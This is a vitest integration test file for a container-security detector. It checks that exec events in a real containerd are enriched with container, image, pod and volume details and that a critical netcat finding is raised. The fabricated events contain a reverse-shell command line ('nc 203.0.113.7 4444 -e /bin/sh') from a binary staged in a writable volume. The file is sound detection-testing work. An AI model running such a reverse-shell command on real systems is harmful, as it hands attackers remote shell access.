import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { createDetector, defaultDetectConfig } from '../../src/detect/index.ts';
import type { Finding } from '../../src/model/finding.ts';
import { openPipeline } from '../../src/pipeline.ts';
import { ProcessTable } from '../../src/state/process-table.ts';
import { RecentExecs } from '../../src/state/recent.ts';
import { silentLog } from '../../src/telemetry/log.ts';
import { execIn, type Rig, rig, until } from '../support/enriching.ts';
import { type RealContainerd, startContainerd } from '../support/real/containerd.ts';
import { firstPidOf, missingFor, tellSkipped } from '../support/real/system.ts';

const reason = missingFor(['containerd', 'ctr', 'runc']);
tellSkipped('real containerd', reason);

describe.runIf(reason === undefined)('a real containerd', () => {
  let real: RealContainerd;
  let one: Rig | undefined;
  let web: { container: string; sandbox: string };
  let scratch: string;

  beforeAll(async () => {
    real = await startContainerd();
    scratch = join(real.folder, 'pods/8c2d/volumes/kubernetes.io~empty-dir/scratch');
    mkdirSync(scratch, { recursive: true });
    web = await real.run({
      pod: 'shop-web-7d9c6b5f4d-x2k8p',
      name: 'web',
      mounts: [{ container_path: '/scratch', host_path: scratch, readonly: false }],
      security: { capabilities: { add_capabilities: ['NET_ADMIN'] } },
    });
  });
  afterEach(async () => {
    await one?.stop();
    one = undefined;
  });
  afterAll(async () => {
    await real?.clean();
  });

  async function connected(): Promise<Rig> {
    one = rig({ runtimes: [real.socket], kubernetes: { mode: 'off' }, poll_secs: 0.2 });
    await one.enricher.start(new AbortController().signal);
    return one;
  }

  it('tells all facts of an exec from a volume', async () => {
    await real.exec(web.container, ['/bin/cp', '/bin/busybox', '/scratch/nc']);
    expect(await real.exec(web.container, ['/scratch/nc', '--help'])).toContain('BusyBox');
    const { enricher } = await connected();
    const event = await enricher.enrich(
      execIn(web.container.slice(0, 31), {
        time: new Date().toISOString().replace('Z', '000000Z'),
        process: {
          binary: '/scratch/nc',
          argv: ['/scratch/nc', '203.0.113.7', '4444', '-e', '/bin/sh'],
          argv_quality: 'exact',
          argv0_known: false,
          pid: 999_999,
          in_init_tree: false,
        },
      }),
    );
    const out = process.env.LANNER_REAL_EVENT;
    if (out !== undefined) writeFileSync(out, `${JSON.stringify(event, null, 2)}\n`);
    expect(event).toMatchObject({
      container: {
        id: web.container,
        name: 'web',
        runtime: 'containerd',
        privileged: false,
        capabilities_added: ['NET_ADMIN'],
        host_network: true,
        host_pid: false,
        read_only_root: false,
        started_at: expect.stringMatching(/^\d{4}-.*\.\d{9}Z$/),
        age_secs: expect.any(Number),
      },
      image: {
        reference: real.reference,
        registry: 'registry.test',
        repository: 'registry.test/shop/web',
        tag: '1.4.2',
        config_digest: real.configDigest,
        digest: expect.stringMatching(/^sha256:[0-9a-f]{64}$/),
        labels: { 'org.opencontainers.image.revision': '9f2c1d7e0b4a', team: 'shop' },
        created: '2026-03-14T09:26:53Z',
        layers: 2,
        entrypoint: ['/app/run.sh'],
        command: [],
        user: '0',
        mutable_tag: false,
      },
      pod: { namespace: 'shop', name: 'shop-web-7d9c6b5f4d-x2k8p', labels: { app: 'shop-web' } },
      process: {
        container_process: false,
        file: {
          in_mount: true,
          mount: {
            destination: '/scratch',
            type: 'emptyDir',
            name: 'scratch',
            source: scratch,
            read_only: false,
          },
        },
      },
    });
    expect(event.container!.age_secs).toBeGreaterThan(0);
    expect(event).not.toHaveProperty('unknown.image');
  });

  it('makes a finding that knows its image, and its place for a volume', async () => {
    const { enricher } = await connected();
    const findings: Finding[] = [];
    const pipeline = openPipeline({
      detector: createDetector(defaultDetectConfig()),
      processes: new ProcessTable(),
      recent: new RecentExecs(),
      enrich: enricher.enrich,
      route: () => ['test'],
      accept: async (finding) => void findings.push(finding),
      minSeverity: 'low',
      log: silentLog,
    });
    pipeline.intake('tetragon').judge(
      execIn(web.container.slice(0, 31), {
        time: new Date().toISOString().replace('Z', '000000Z'),
        process: {
          binary: '/scratch/nc',
          argv: ['/scratch/nc', '203.0.113.7', '4444', '-e', '/bin/sh'],
          argv_quality: 'exact',
          argv0_known: false,
          pid: 999_999,
          in_init_tree: false,
        },
      }),
    );
    await pipeline.idle();
    const out = process.env.LANNER_REAL_FINDING;
    if (out !== undefined) writeFileSync(out, `${JSON.stringify(findings[0], null, 2)}\n`);
    expect(findings).toHaveLength(1);
    expect(findings[0]).toMatchObject({
      severity: 'critical',
      tool: 'netcat',
      exec: { image: { reference: real.reference }, container: { name: 'web' }, pod: { namespace: 'shop' } },
    });
    expect(findings[0]!.indicators.map((one) => one.id)).toEqual(
      expect.arrayContaining(['exec_on_socket', 'loc_writable']),
    );
    expect(findings[0]!.title).toContain(real.reference);
  });

  it("knows the container's own first process by its pid", async () => {
    const { enricher } = await connected();
    const pid = firstPidOf(web.container)!;
    const event = await enricher.enrich(
      execIn(web.container, {
        process: {
          binary: '/app/run.sh',
          argv: ['/app/run.sh'],
          argv_quality: 'exact',
          argv0_known: true,
          pid,
        },
      }),
    );
    expect(event.process).toMatchObject({ container_process: true, file: { in_mount: false } });
  });

  it('learns a container ahead of its first finding, and knows it after it was removed', async () => {
    const made = await connected();
    const other = await real.run({ pod: 'short-lived', name: 'job', command: ['/bin/sleep', '600'] });
    const remembered = () => made.value('lanner_enrich_cache_entries', { kind: 'containers' });
    await until(async () => (await remembered()) === real.running.size, 'all to be known');
    await real.remove(other.container);
    const event = made.enricher.enrich(execIn(other.container.slice(0, 12)));
    expect(event).toMatchObject({ container: { id: other.container, name: 'job' }, image: { tag: '1.4.2' } });
  });

  it('says that a container is gone that was removed before it was asked for', async () => {
    const other = await real.run({ pod: 'gone-early', name: 'job', command: ['/bin/sleep', '600'] });
    await real.remove(other.container);
    const { enricher } = await connected();
    expect((await enricher.enrich(execIn(other.container.slice(0, 31)))).unknown).toEqual({
      image: 'container_gone',
      container: 'container_gone',
    });
  });

  it('is survived when it is killed, and asked again when it is back', async () => {
    const made = await connected();
    await made.enricher.enrich(execIn(web.container));
    await real.kill();
    await until(() => made.enricher.health()[0]!.state === 'degraded', 'the loss to be seen');
    expect(made.enricher.enrich(execIn(web.container))).toMatchObject({ image: { tag: '1.4.2' } });
    await until(() => made.enricher.health()[0]!.code === 'connect_refused', 'the reason to be seen');
    expect(made.enricher.enrich(execIn('1'.repeat(64)))).toMatchObject({ unknown: { image: 'unavailable' } });
    await real.start();
    await until(() => made.enricher.health()[0]!.state === 'ok', 'the connection', 30_000);
    const other = await real.run({ pod: 'after-restart', name: 'job', command: ['/bin/sleep', '600'] });
    expect(await made.enricher.enrich(execIn(other.container))).toMatchObject({ container: { name: 'job' } });
  });

  it('tells two digests that run under one tag', async () => {
    // The tag is moved to the pause image while `web` still runs the former one.
    const made = await connected();
    const before = await made.enricher.enrich(execIn(web.container));
    real.ctr('images', 'tag', '--force', 'registry.test/infra/pause:1', real.reference);
    let moved = '';
    await until(async () => {
      const other = await real.run({
        pod: `moved-${Date.now()}`,
        name: 'new',
        command: ['/bin/sleep', '600'],
      });
      moved = other.container;
      const now = await made.enricher.enrich(execIn(moved));
      return now.image?.config_digest !== before.image!.config_digest;
    }, 'the tag to be moved');
    const now = await made.enricher.enrich(execIn(moved));
    expect(now.image!.other_digests).toContain(before.image!.digest);
  });
});
